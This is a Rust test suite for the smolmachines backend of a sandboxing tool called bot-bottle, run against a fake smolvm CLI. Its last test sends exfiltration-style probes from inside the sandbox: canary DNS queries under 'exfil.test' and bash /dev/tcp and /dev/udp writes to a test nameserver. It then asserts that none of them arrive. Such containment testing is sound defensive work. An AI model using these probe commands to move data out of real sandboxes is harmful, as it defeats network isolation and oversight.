//! The smolmachines backend against `tests/smolvm/fake-smolvm`, a stand-in
//! for the `smolvm` CLI that parses argv as smolvm's clap definitions do and
//! runs each machine as a docker container (see the script's header). The
//! real bot-bottle drives it end to end: launch, list, exec, egress, stop,
//! resume, cleanup, and a host without smolvm.
//!
//! Every argv bot-bottle passes to smolvm lands in the fake's `calls.log`;
//! the tests assert on those shapes, and a shape real smolvm would reject
//! fails in the fake first (exit 2, as clap does).
//!
//! Each test removes what it made, even when it fails (`Contract`'s drop).

mod support;

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use support::docker::{
    Env, container_ips, docker, docker_ok, leftovers, resume_hint, search_agent,
};
use support::unique;
use support::upstream::{run_upstream, upstream_image};

/// The label the fake puts on each machine's container.
const FAKE_LABEL: &str = "dev.bot-bottle.fake-smolvm";

fn fake_script() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/smolvm/fake-smolvm")
}

/// A test's `Env` with the fake smolvm: a folder on PATH holding `smolvm`
/// (a link to the fake), `BOT_BOTTLE_SMOLVM` naming it, and the fake's own
/// state folder. On drop: `cleanup --yes` (it touches this test's home's
/// bottles alone), the bottles' labelled containers and networks, the
/// fake's machines and containers, then the folders.
struct Contract {
    env: Env,
    bin: PathBuf,
    state: PathBuf,
}

impl Contract {
    fn new() -> Contract {
        let env = Env::new();
        let python = Command::new("python3")
            .arg("--version")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        assert!(python, "the fake smolvm needs python3 on PATH");
        let bin = env.dir.path().join("fake-bin");
        let state = env.dir.path().join("fake-smolvm");
        std::fs::create_dir_all(&bin).unwrap();
        std::os::unix::fs::symlink(fake_script(), bin.join("smolvm")).unwrap();
        Contract { env, bin, state }
    }

    fn smolvm(&self) -> PathBuf {
        self.bin.join("smolvm")
    }

    fn path_with_fake(&self) -> String {
        let old = std::env::var("PATH").unwrap_or_default();
        format!("{}:{old}", self.bin.display())
    }

    /// bot-bottle, with the fake on PATH and in `BOT_BOTTLE_SMOLVM`.
    fn cmd(&self, args: &[&str]) -> Command {
        let mut cmd = self.env.cmd(args);
        cmd.env("PATH", self.path_with_fake())
            .env("BOT_BOTTLE_SMOLVM", self.smolvm())
            .env("FAKE_SMOLVM_STATE", &self.state)
            // The fake's "microVM" is a container on the bundle's network,
            // which has an address on the host: unlike smolvm's gateway,
            // it reaches the host, and bring-up's seal check says so
            // (`the_seal_check_runs_through_smolvm_and_sees_the_fakes_gateway`).
            .env("BOT_BOTTLE_SKIP_SEAL_CHECK", "1");
        cmd
    }

    /// Runs bot-bottle; (exit code, stdout, stderr).
    fn run(&self, args: &[&str]) -> (i32, String, String) {
        output(self.cmd(args))
    }

    /// `start AGENT --backend smolmachines --yes --detach` with `vars` set;
    /// the identity.
    fn start(&self, agent: &str, vars: &[(&str, &str)]) -> String {
        self.start_with(agent, &[], vars)
    }

    /// `start`, as `start` does, with more flags.
    fn start_with(&self, agent: &str, flags: &[&str], vars: &[(&str, &str)]) -> String {
        let mut args = vec![
            "start",
            agent,
            "--backend",
            "smolmachines",
            "--yes",
            "--detach",
        ];
        args.extend_from_slice(flags);
        let mut cmd = self.cmd(&args);
        for (k, v) in vars {
            cmd.env(k, v);
        }
        let (code, out, err) = output(cmd);
        let slug = out.trim().to_owned();
        // Tracked before the check: a start that printed its identity and
        // then failed still leaves a bottle to take down.
        if !slug.is_empty() && !slug.contains('\n') {
            self.env.track(&slug);
        }
        assert_eq!(code, 0, "start {agent} on smolmachines failed: {err}");
        assert!(
            !slug.is_empty() && !slug.contains('\n'),
            "start printed more than the identity: {out:?}"
        );
        slug
    }

    /// The fake itself, on the test's state: `machine ls --json`.
    fn machines(&self) -> Vec<Value> {
        let out = support::succeed(
            Command::new(self.smolvm())
                .args(["machine", "ls", "--json"])
                .env("FAKE_SMOLVM_STATE", &self.state),
        );
        serde_json::from_str::<Value>(&out)
            .unwrap()
            .as_array()
            .unwrap()
            .clone()
    }

    fn machine_names(&self) -> Vec<String> {
        self.machines()
            .iter()
            .map(|m| m["name"].as_str().unwrap().to_owned())
            .collect()
    }

    /// Every argv bot-bottle ran smolvm with, in order.
    fn calls(&self) -> Vec<Vec<String>> {
        std::fs::read_to_string(self.state.join("calls.log"))
            .unwrap_or_default()
            .lines()
            .filter(|l| !l.is_empty())
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    /// The calls of one `machine VERB`.
    fn calls_of(&self, verb: &str) -> Vec<Vec<String>> {
        self.calls()
            .into_iter()
            .filter(|c| c.len() >= 2 && c[0] == "machine" && c[1] == verb)
            .collect()
    }

    /// `slug`'s row of `list active --json`.
    fn row(&self, slug: &str) -> Value {
        let (code, out, err) = self.run(&["list", "active", "--json"]);
        assert_eq!(code, 0, "{err}");
        support::docker::listed_row(&out, slug)
    }

    /// The bundle's containers and the machine's container are gone, and
    /// no machine or state is left of `slug`.
    fn assert_gone(&self, slug: &str) {
        assert_eq!(leftovers(slug), (0, 0), "the bundle of {slug} is left");
        let machine = machine_name(slug);
        assert!(
            labelled_containers(&format!("{FAKE_LABEL}={machine}")).is_empty(),
            "the container of machine {machine} is left"
        );
        assert!(
            !self.machine_names().contains(&machine),
            "machine {machine} is left: {:?}",
            self.machines()
        );
        let (code, out, err) = self.run(&["list", "active", "--json"]);
        assert_eq!(code, 0, "{err}");
        assert!(!out.contains(slug), "{slug} is still listed: {out}");
    }
}

impl Drop for Contract {
    fn drop(&mut self) {
        let _ = self
            .cmd(&["cleanup", "--yes"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        // What the test's own bottles left, by label: the bundle's
        // containers, then its networks.
        for slug in self.calls().iter().filter_map(|c| created_slug(c)) {
            let filter = format!("label=dev.bot-bottle.slug={slug}");
            for id in docker_lines(&["ps", "--all", "--quiet", "--filter", &filter]) {
                let _ = docker(&["rm", "--force", &id]);
            }
            for id in docker_lines(&["network", "ls", "--quiet", "--filter", &filter]) {
                let _ = docker(&["network", "rm", &id]);
            }
        }
        // The fake's machines: their records, then any container by label.
        for name in std::fs::read_dir(self.state.join("machines"))
            .map(|d| d.flatten().collect::<Vec<_>>())
            .unwrap_or_default()
            .iter()
            .filter_map(|e| {
                e.file_name()
                    .to_str()?
                    .strip_suffix(".json")
                    .map(String::from)
            })
        {
            let _ = Command::new(self.smolvm())
                .args(["machine", "delete", "--name", &name, "--force"])
                .env("FAKE_SMOLVM_STATE", &self.state)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
        }
        for id in docker_lines(&[
            "ps",
            "--all",
            "--quiet",
            "--filter",
            &format!("label={FAKE_LABEL}"),
        ]) {
            let _ = docker(&["rm", "--force", &id]);
        }
        let _ = std::fs::remove_dir_all(&self.state);
        // Then `Env`'s drop: compose projects of tracked slugs, the folders.
    }
}

fn output(mut cmd: Command) -> (i32, String, String) {
    let out = cmd.output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn docker_lines(args: &[&str]) -> Vec<String> {
    let out = docker(args);
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| !l.is_empty())
        .map(String::from)
        .collect()
}

fn labelled_containers(label: &str) -> BTreeSet<String> {
    docker_ok(&[
        "ps",
        "--all",
        "--format",
        "{{.Names}}",
        "--filter",
        &format!("label={label}"),
    ])
    .lines()
    .filter(|l| !l.is_empty())
    .map(String::from)
    .collect()
}

fn machine_name(slug: &str) -> String {
    format!("bot-bottle-{slug}")
}

/// The words of a call before its `--` (smolvm's own options).
fn options(call: &[String]) -> &[String] {
    let end = call.iter().position(|a| a == "--").unwrap_or(call.len());
    &call[..end]
}

/// The words after a call's `--` (the command it runs).
fn command(call: &[String]) -> &[String] {
    match call.iter().position(|a| a == "--") {
        Some(i) => &call[i + 1..],
        None => &[],
    }
}

/// Every value of an option before `--`, in any of its spellings
/// (`--name X`, `--name=X`, `-n X`, `-nX`).
fn values(call: &[String], long: &str, short: Option<char>) -> Vec<String> {
    let opts = options(call);
    let mut found = Vec::new();
    let mut i = 0;
    while i < opts.len() {
        let a = &opts[i];
        let mut take_next = false;
        if a == &format!("--{long}") {
            take_next = true;
        } else if let Some(v) = a.strip_prefix(&format!("--{long}=")) {
            found.push(v.to_owned());
        } else if let Some(c) = short {
            if a == &format!("-{c}") {
                take_next = true;
            } else if let Some(v) = a.strip_prefix(&format!("-{c}"))
                && !a.starts_with("--")
            {
                found.push(v.trim_start_matches('=').to_owned());
            }
        }
        if take_next && i + 1 < opts.len() {
            found.push(opts[i + 1].clone());
            i += 1;
        }
        i += 1;
    }
    found
}

/// The slug of a `machine create --name bot-bottle-SLUG` call.
fn created_slug(call: &[String]) -> Option<String> {
    if call.len() < 2 || call[0] != "machine" || call[1] != "create" {
        return None;
    }
    values(call, "name", Some('n'))
        .first()?
        .strip_prefix("bot-bottle-")
        .map(String::from)
}

/// The one `create` call for `slug`'s machine.
fn create_call(c: &Contract, slug: &str) -> Vec<String> {
    let name = machine_name(slug);
    let creates: Vec<_> = c
        .calls_of("create")
        .into_iter()
        .filter(|call| values(call, "name", Some('n')) == [name.clone()])
        .collect();
    assert_eq!(
        creates.len(),
        1,
        "want one `machine create --name {name}`: {:?}",
        c.calls()
    );
    creates.into_iter().next().unwrap()
}

/// A canary for a route's token: shaped like an Anthropic key, so DLP
/// knows it too.
fn canary() -> String {
    format!(
        "sk-ant-api03-bbcontract{}",
        support::unique("canary").replace('-', "x")
    )
}

/// An agent on the shell provider whose bottle has a route with a token
/// from the host's `BB_CONTRACT_TOKEN`.
fn write_contract_manifest(c: &Contract) {
    c.env.write(
        "proj/bot-bottle.json",
        r#"{
          "agents": {"contract": {"provider": "shell", "bottle": "contract"}},
          "bottles": {"contract": {"extends": "default", "egress": {
            "routes": [{"host": "upstream.test",
                        "auth": {"scheme": "bearer", "token_env": "BB_CONTRACT_TOKEN"}}]}}}
        }"#,
    );
    c.env.trust();
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn a_bottle_on_smolmachines_launches_lists_execs_reaches_egress_and_stops() {
    let c = Contract::new();
    write_contract_manifest(&c);
    let token = canary();

    // 1. The identity, listed on smolmachines.
    let slug = c.start("contract", &[("BB_CONTRACT_TOKEN", token.as_str())]);
    assert!(
        slug.starts_with("contract-") && slug.len() == "contract-".len() + 5,
        "{slug}"
    );
    let row = c.row(&slug);
    assert_eq!(row["backend"], "smolmachines", "{row}");
    assert_eq!(row["agent"], "contract", "{row}");
    let (code, table, err) = c.run(&["list", "active"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        table
            .lines()
            .any(|l| l.contains(&slug) && l.split_whitespace().next() == Some("smolmachines")),
        "{table}"
    );
    let machine = machine_name(&slug);
    let listed: Vec<_> = c
        .machines()
        .into_iter()
        .filter(|m| m["name"] == machine.as_str())
        .collect();
    assert_eq!(listed.len(), 1, "{:?}", c.machines());
    assert_eq!(listed[0]["state"], "running", "{}", listed[0]);

    // 2. The create call: its name, a label with the slug, an archive, one
    // allowed address per sidecar, and no credential.
    let create = create_call(&c, &slug);
    let labels = values(&create, "label", None);
    assert!(
        labels
            .iter()
            .any(|l| l.split_once('=').is_some_and(|(_, v)| v.contains(&slug))),
        "no --label carries {slug}: {create:?}"
    );
    let images = values(&create, "image", Some('I'));
    assert_eq!(images.len(), 1, "{create:?}");
    assert!(
        images[0].ends_with(".tar"),
        "-I is not a `docker save` archive: {create:?}"
    );
    let record: Value = serde_json::from_str(
        &std::fs::read_to_string(c.state.join("machines").join(format!("{machine}.json"))).unwrap(),
    )
    .unwrap();
    assert!(
        docker(&["image", "inspect", record["image_id"].as_str().unwrap()])
            .status
            .success(),
        "the archive's image is not on the engine: {record}"
    );
    let services: Vec<String> = row["services"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap().to_owned())
        .collect();
    assert!(!services.is_empty(), "{row}");
    let bundle = labelled_containers(&format!("dev.bot-bottle.slug={slug}"));
    let owner = |ip: &str| {
        bundle
            .iter()
            .find(|ctr| container_ips(ctr).iter().any(|(_, a)| a == ip))
            .cloned()
    };
    let cidrs = values(&create, "allow-cidr", None);
    let mut reached = BTreeSet::new();
    for cidr in &cidrs {
        let ip = cidr
            .strip_suffix("/32")
            .unwrap_or_else(|| panic!("--allow-cidr {cidr} is not one address: {create:?}"));
        let ctr = owner(ip).unwrap_or_else(|| {
            panic!("--allow-cidr {cidr} is no container of the bundle {bundle:?}")
        });
        reached.insert(ctr);
    }
    assert_eq!(
        (cidrs.len(), reached.len()),
        (services.len(), services.len()),
        "want one --allow-cidr per sidecar {services:?}: {cidrs:?} reach {reached:?}"
    );
    for call in c.calls() {
        for arg in &call {
            assert!(
                !arg.contains(&token),
                "the token is in a smolvm argv: {call:?}"
            );
        }
    }
    let kept =
        std::fs::read_to_string(c.state.join("machines").join(format!("{machine}.json"))).unwrap();
    assert!(
        !kept.contains(&token),
        "the token reached the machine's record (an `-e KEY` forwards the host's value)"
    );
    let seen = search_agent(&format!("fake-smolvm-{machine}"), &token);
    assert!(
        !seen.contains(&token),
        "the token is in the machine: {seen}"
    );

    // 3. exec: as the agent, in its workdir, through `machine exec`.
    let (code, out) = {
        let (code, out, _) = c.run(&["exec", &slug, "--", "sh", "-c", "id -un; pwd"]);
        (code, out)
    };
    assert_eq!(code, 0, "{out}");
    assert_eq!(
        out.lines().collect::<Vec<_>>(),
        ["agent", "/workspace"],
        "{out}"
    );
    let exec = c
        .calls_of("exec")
        .into_iter()
        .rfind(|call| command(call).ends_with(&["sh".into(), "-c".into(), "id -un; pwd".into()]))
        .unwrap_or_else(|| {
            panic!(
                "no `machine exec ... -- sh -c 'id -un; pwd'`: {:?}",
                c.calls()
            )
        });
    assert_eq!(values(&exec, "name", None), [machine.as_str()], "{exec:?}");
    let cmd = command(&exec);
    if let Some(i) = cmd.iter().position(|a| a == "runuser") {
        assert_eq!(&cmd[i..i + 4], ["runuser", "-u", "agent", "--"], "{exec:?}");
    }
    // exec returns the command's exit code.
    let (code, _, _) = c.run(&["exec", &slug, "--", "sh", "-c", "exit 7"]);
    assert_eq!(code, 7);

    // 4. The agent reaches the egress proxy: a host no route allows is
    // denied by the proxy itself (nothing leaves the host).
    let (_, out, err) = c.run(&[
        "exec",
        &slug,
        "--",
        "sh",
        "-c",
        "curl -sS -m 10 -o /dev/null -w '%{http_code}' https://not-allowed.test/ 2>/dev/null; true",
    ]);
    assert_eq!(out.trim(), "403", "the proxy did not answer: {out} {err}");

    // 5. freeze: every process of the agent's user stopped, egress told;
    // thaw: both undone.
    let vm = format!("fake-smolvm-{machine}");
    docker_ok(&["exec", "-d", "-u", "1000", &vm, "sleep", "1000"]);
    let sleeper = || {
        docker_ok(&[
            "exec",
            &vm,
            "sh",
            "-c",
            // `; true`: the loop's status is its last process's, which
            // is a sleep or not as the pids fall.
            "for p in /proc/[0-9]*; do grep -q '^Name:.sleep$' $p/status 2>/dev/null && grep '^State' $p/status; done; true",
        ])
    };
    assert!(sleeper().contains("S (sleeping)"), "{}", sleeper());
    let (code, _, err) = c.run(&["freeze", &slug]);
    assert_eq!(code, 0, "{err}");
    assert!(sleeper().contains("T (stopped)"), "{}", sleeper());
    assert_eq!(c.row(&slug)["frozen"], true);
    let (code, _, err) = c.run(&["exec", &slug, "--", "true"]);
    assert_eq!(code, 2, "exec in a frozen bottle: {err}");
    assert!(
        c.env.bottle(&slug).is_frozen(),
        "egress's marker (what egress does with it: tests/egress_loopback.rs)"
    );
    let (code, _, err) = c.run(&["thaw", &slug]);
    assert_eq!(code, 0, "{err}");
    assert!(sleeper().contains("S (sleeping)"), "{}", sleeper());
    assert_eq!(c.row(&slug)["frozen"], false);

    // 6. stop: the machine, its container and the bundle are gone.
    let (code, _, err) = c.run(&["stop", &slug]);
    assert_eq!(code, 0, "{err}");
    c.assert_gone(&slug);
    assert!(!c.env.home().join("state").join(&slug).exists());
    let (code, _, err) = c.run(&["list", "active"]);
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = c.run(&["exec", &slug, "--", "true"]);
    assert_eq!(code, 2, "exec in a stopped bottle: {err}");
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn a_crashed_session_on_smolmachines_is_kept_and_resumed_there() {
    let c = Contract::new();
    let (code, _, err) = c.run(&[
        "start",
        "shell",
        "--backend",
        "smolmachines",
        "--yes",
        "--",
        "-c",
        "exit 3",
    ]);
    let slug = resume_hint(&err)
        .unwrap_or_else(|| panic!("no resume hint (exit {code}): {err}"))
        .to_owned();
    c.env.track(&slug);
    assert_eq!(code, 3, "{err}");
    let state = c.env.home().join("state").join(&slug);
    assert!(state.join(".preserve").exists(), "state not kept");
    assert!(
        !state.join("egress/tokens.json").exists(),
        "kept state holds tokens"
    );
    c.assert_gone(&slug);

    let (code, out, err) = c.run(&["resume", &slug, "--yes", "--detach"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.trim(), slug);
    let row = c.row(&slug);
    assert_eq!(row["backend"], "smolmachines", "{row}");
    assert_eq!(
        c.calls_of("create")
            .iter()
            .filter(|call| created_slug(call).as_deref() == Some(slug.as_str()))
            .count(),
        2,
        "resume made no new machine of the same identity: {:?}",
        c.calls()
    );
    let (code, out, _) = c.run(&["exec", &slug, "--", "sh", "-c", "id -un"]);
    assert_eq!((code, out.trim()), (0, "agent"));
    let (code, _, err) = c.run(&["resume", &slug, "--yes"]);
    assert_eq!(code, 2, "resuming a running bottle: {err}");
    let (code, _, err) = c.run(&["stop", &slug]);
    assert_eq!(code, 0, "{err}");
    c.assert_gone(&slug);
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn cleanup_plans_and_removes_machines_and_their_bundles() {
    let c = Contract::new();
    let slug = c.start("shell", &[]);
    let machine = machine_name(&slug);
    assert!(c.machine_names().contains(&machine));

    let (code, _, err) = c.run(&["cleanup", "--yes"]);
    assert_eq!(code, 0, "{err}");
    let smol = err
        .find("--- smolmachines ---")
        .unwrap_or_else(|| panic!("no smolmachines section in the plan: {err}"));
    let dock = err
        .find("--- docker ---")
        .unwrap_or_else(|| panic!("no docker section in the plan: {err}"));
    let section = |start: usize| {
        let rest = &err[start..];
        let end = rest[4..].find("--- ").map_or(rest.len(), |i| i + 4);
        rest[..end].to_owned()
    };
    assert!(
        section(smol).contains(&machine),
        "the smolmachines section does not name {machine}: {err}"
    );
    assert!(
        section(dock).contains(&slug),
        "the docker section does not name the bundle of {slug}: {err}"
    );
    // Nothing of this home's is left (another home's bottles may run on
    // the same engine; cleanup leaves them).
    let home_id = std::fs::read_to_string(c.env.home().join("home-id")).unwrap();
    let ours = format!("label=dev.bot-bottle.home={}", home_id.trim());
    assert_eq!(
        docker_ok(&["ps", "--all", "--quiet", "--filter", &ours]),
        ""
    );
    assert_eq!(
        docker_ok(&["network", "ls", "--quiet", "--filter", &ours]),
        ""
    );
    assert!(c.machines().is_empty(), "{:?}", c.machines());
    assert!(
        labelled_containers(FAKE_LABEL).is_empty(),
        "machine containers are left"
    );
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn without_smolvm_the_backend_says_how_to_get_it_and_the_rest_works() {
    let c = Contract::new();
    // PATH without any folder that holds a smolvm.
    let path: Vec<String> = std::env::var("PATH")
        .unwrap_or_default()
        .split(':')
        .filter(|d| !d.is_empty() && !Path::new(d).join("smolvm").exists())
        .map(String::from)
        .collect();
    let path = path.join(":");
    let bare = |args: &[&str]| {
        let mut cmd = c.env.cmd(args);
        cmd.env("PATH", &path)
            .env_remove("BOT_BOTTLE_SMOLVM")
            .env_remove("BOT_BOTTLE_BACKEND");
        output(cmd)
    };

    let (code, out, err) = bare(&["start", "shell", "--backend", "smolmachines", "--dry-run"]);
    assert_eq!(code, 2, "{out}{err}");
    let lines: Vec<&str> = err.lines().filter(|l| !l.trim().is_empty()).collect();
    assert_eq!(lines.len(), 1, "want one line: {err}");
    assert!(
        lines[0].contains("smolvm") && lines[0].contains("install"),
        "{err}"
    );

    let (code, _, err) = bare(&["list", "active"]);
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = bare(&["list", "active", "--json"]);
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = bare(&["cleanup", "--yes"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        c.calls().is_empty(),
        "smolvm ran although it is not installed: {:?}",
        c.calls()
    );
}

/// The fake refuses what smolvm's clap would: a wrong argv from bot-bottle
/// must fail here before it fails on a real host.
#[test]
fn the_fake_rejects_argv_smolvm_would_reject() {
    let dir = tempfile::tempdir().unwrap();
    let run = |args: &[&str]| {
        Command::new(fake_script())
            .args(args)
            .env("FAKE_SMOLVM_STATE", dir.path())
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let usage: &[&[&str]] = &[
        &["machine", "start", "bot-bottle-x"],
        &["machine", "stop", "bot-bottle-x"],
        &["machine", "delete", "-f"],
        &["machine", "create", "--name", "a", "-I", "/x.tar", "sh"],
        &["machine", "exec", "-n", "a", "--", "id"],
        &["machine", "exec", "--name", "a", "-d", "-i", "--", "id"],
        &["machine", "exec", "--name", "a", "-d", "-t", "--", "id"],
        &["machine", "exec", "--name", "a", "--"],
        &[
            "machine", "exec", "--name", "a", "--user", "agent", "--", "id",
        ],
        &["machine", "create", "--name", "a", "--cpus", "256"],
        &["machine", "create", "--name", "a", "--allow-cidr", "nope"],
        &["machine", "create", "--name", "a", "--net-backend", "slirp"],
        &["machine", "create", "--name", "a", "--dns", "ns.example"],
        &["machine", "create", "--name", "a", "--secret-file"],
        &["machine", "ls", "--json", "--quiet"],
        &["machine", "cp", "/a"],
    ];
    for args in usage {
        let out = run(args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.starts_with("error: "), "{args:?}: {err}");
    }
    // The shapes bot-bottle uses parse (they fail later: no such machine).
    let fine: &[&[&str]] = &[
        &["machine", "start", "--name", "a"],
        &["machine", "stop", "--name", "a"],
        &["machine", "delete", "--name", "a", "-f"],
        &[
            "machine", "exec", "--name", "a", "-i", "-t", "-w", "/w", "-e", "K=V", "--", "id",
        ],
        &["machine", "exec", "--name", "a", "-d", "--", "sleep", "1"],
        &["machine", "cp", "/etc/hostname", "a:/tmp/h"],
    ];
    for args in fine {
        let out = run(args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(err.starts_with("Error: "), "{args:?}: {err}");
    }
    let out = run(&["machine", "ls", "--json"]);
    assert!(out.status.success());
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "[]");
    let log = std::fs::read_to_string(dir.path().join("calls.log")).unwrap();
    assert_eq!(log.lines().count(), usage.len() + fine.len() + 1);
    assert_eq!(
        log.lines().next().unwrap(),
        r#"["machine", "start", "bot-bottle-x"]"#
    );
}

// ---------------------------------------------------------------------------
// smolmachines is as closed as docker: the resolver, the bottle key, the
// transcript snapshot.

/// The manifest in the test's home (the operator's own, trusted as written).
fn write_home_manifest(c: &Contract, json: &str) {
    let path = c.env.home().join("bot-bottle.json");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, json).unwrap();
}

/// A canary that fits a DNS label.
fn label_canary() -> String {
    unique("bbc").replace('-', "x").to_ascii_lowercase()
}

/// A DNS query for `name`'s A record.
fn dns_query(name: &str) -> Vec<u8> {
    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

/// Bytes as a bash `printf` format that prints them.
fn printf_bytes(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("\\x{b:02x}")).collect()
}

/// The host's resolver as smolvm would hand it to a machine, stood in for
/// by `tests/smolvm/nameserver.py` in a container of the test's own, on an
/// internal network of its own; it logs whatever reaches it.
struct Nameserver {
    ip: String,
    network: String,
    log: PathBuf,
}

impl Nameserver {
    fn start(c: &Contract) -> Nameserver {
        upstream_image();
        let network = unique("bbtest-ns");
        docker_ok(&[
            "network",
            "create",
            "--internal",
            "--label",
            "dev.bot-bottle.test=1",
            &network,
        ]);
        c.env.track_network(&network);
        let dir = c.env.dir.path().join(&network);
        std::fs::create_dir_all(dir.join("log")).unwrap();
        std::fs::write(
            dir.join("nameserver.py"),
            include_str!("smolvm/nameserver.py"),
        )
        .unwrap();
        let srv = format!("{}:/srv:ro", dir.display());
        let log = format!("{}:/log", dir.join("log").display());
        run_upstream(
            &c.env,
            &network,
            &network,
            &["--label", "dev.bot-bottle.test=1", "-v", &srv, "-v", &log],
            &["python3", "/srv/nameserver.py"],
        );
        let ns = Nameserver {
            ip: container_ips(&network)[0].1.clone(),
            network,
            log: dir.join("log/seen.jsonl"),
        };
        ns.wait_for("\"ready\"");
        ns
    }

    /// Everything that reached it.
    fn seen(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn wait_for(&self, needle: &str) {
        let deadline = Instant::now() + Duration::from_secs(30);
        while !self.seen().contains(needle) {
            assert!(
                Instant::now() < deadline,
                "the nameserver never saw {needle}: {}",
                self.seen()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

/// smolvm gives a machine's guest the host's resolver (TSI: its address is
/// allowed and the guest resolves through it; virtio-net: the gateway
/// forwards every query to it, or to 1.1.1.1). The microVM must resolve
/// only its sidecars' names, through egress's resolver, and reach the
/// host's resolver by no path: no name resolves through it, and TCP and
/// UDP to its address go nowhere. The nameserver stands in for both the
/// host's first nameserver and the public fallback; a container on its
/// network shows the same probes reach it where a path exists.
#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn the_microvm_resolves_only_its_sidecars_and_reaches_no_resolver_of_the_host() {
    let c = Contract::new();
    let ns = Nameserver::start(&c);
    let resolv = c.env.dir.path().join("host-resolv.conf");
    std::fs::write(
        &resolv,
        format!("nameserver 127.0.0.53\nnameserver {}\n", ns.ip),
    )
    .unwrap();
    let slug = c.start(
        "shell",
        &[
            ("FAKE_SMOLVM_RESOLV_CONF", resolv.to_str().unwrap()),
            ("FAKE_SMOLVM_PUBLIC_DNS", &ns.ip),
        ],
    );
    let canary = label_canary();
    let name = |i: u32| format!("c{i}-{canary}.exfil.test");
    let ip = &ns.ip;
    let script = format!(
        "getent -s dns hosts egress; echo \"egress=$?\"\n\
         getent -s dns hosts {n1} >/dev/null; echo \"dns=$?\"\n\
         getent hosts {n2} >/dev/null; echo \"hosts=$?\"\n\
         printf '{q3}' > /dev/udp/{ip}/53 2>/dev/null; true\n\
         timeout 5 bash -c 'exec 3<>/dev/tcp/{ip}/53' 2>/dev/null; echo \"tcp53=$?\"\n\
         timeout 5 bash -c 'exec 3<>/dev/tcp/{ip}/9999 && printf {c4} >&3' 2>/dev/null; echo \"tcp9999=$?\"\n\
         printf '{c5}' > /dev/udp/{ip}/9999 2>/dev/null; true\n",
        n1 = name(1),
        n2 = name(2),
        q3 = printf_bytes(&dns_query(&name(3))),
        c4 = name(4),
        c5 = name(5),
    );
    let (code, out, err) = c.run(&["exec", &slug, "--", "bash", "-c", &script]);
    assert_eq!(code, 0, "{out}{err}");

    // Where a path exists, the same probes reach the nameserver.
    let control = format!(
        "printf '{}' > /dev/udp/{ip}/53; exec 3<>/dev/tcp/{ip}/9999 && printf {} >&3",
        printf_bytes(&dns_query(&name(0))),
        format_args!("c0tcp-{canary}"),
    );
    docker_ok(&[
        "run",
        "--rm",
        "--network",
        &ns.network,
        "debian:bookworm-slim",
        "bash",
        "-c",
        &control,
    ]);
    ns.wait_for(&name(0));
    ns.wait_for(&format!("c0tcp-{canary}"));

    let seen = ns.seen();
    for i in 1..=5 {
        assert!(
            !seen.contains(&format!("c{i}-{canary}")),
            "probe {i} from the microVM reached the host's resolver: {seen}\n{out}"
        );
    }
    let machine: Vec<String> = container_ips(&format!("fake-smolvm-{}", machine_name(&slug)))
        .into_iter()
        .map(|(_, ip)| ip)
        .collect();
    let peers: Vec<String> = seen
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter_map(|v| v["peer"].as_str().map(str::to_owned))
        .collect();
    assert!(
        !peers.iter().any(|p| machine.contains(p)),
        "something of the microVM reached the host's resolver: {seen}"
    );
    // Nothing resolved, nothing connected (refused, unreachable or timed
    // out are all the same here).
    for probe in ["dns", "hosts", "tcp53", "tcp9999"] {
        let status = out
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{probe}=")))
            .unwrap_or_else(|| panic!("no {probe} probe: {out}"));
        assert_ne!(status, "0", "the {probe} probe succeeded: {out}");
    }
    // Its resolver answers the sidecars' names: egress's, on the bundle.
    let create = create_call(&c, &slug);
    let dns = values(&create, "dns", None);
    assert_eq!(dns.len(), 1, "no --dns: {create:?}");
    assert!(
        values(&create, "allow-cidr", None).contains(&format!("{}/32", dns[0])),
        "--dns {} is not a sidecar's address: {create:?}",
        dns[0]
    );
    assert_eq!(values(&create, "net-backend", None), ["virtio-net"]);
    assert!(
        out.lines()
            .next()
            .is_some_and(|l| l.split_whitespace().next() == Some(dns[0].as_str())),
        "egress does not resolve to itself through the resolver: {out}"
    );
    assert!(out.contains("egress=0"), "{out}");
}

